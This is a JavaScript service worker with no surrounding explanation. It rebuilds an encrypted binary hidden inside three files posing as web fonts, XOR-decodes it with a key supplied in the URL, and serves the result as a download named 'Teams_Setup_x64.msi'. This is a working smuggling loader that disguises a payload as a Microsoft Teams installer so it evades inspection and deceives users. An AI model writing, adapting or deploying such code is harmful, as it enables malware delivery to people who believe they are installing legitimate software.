const parts = ["/fonts/a.woff2", "/fonts/b.woff2", "/fonts/c.woff2"];
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));
self.addEventListener("fetch", (e) => {
  const u = new URL(e.request.url);
  if (!u.pathname.startsWith("/get/")) return;
  e.respondWith((async () => {
    const key = new TextEncoder().encode(u.searchParams.get("k"));
    let at = 0;
    const rs = new ReadableStream({
      async start(c) {
        for (const p of parts) {
          const b = new Uint8Array(await (await fetch(p)).arrayBuffer()).subarray(48);
          c.enqueue(b.map((x) => x ^ key[at++ % key.length]));
        }
        c.close();
      },
    });
    return new Response(rs, { headers: { "Content-Type": "application/octet-stream", "Content-Disposition": 'attachment; filename="Teams_Setup_x64.msi"' } });
  })());
});
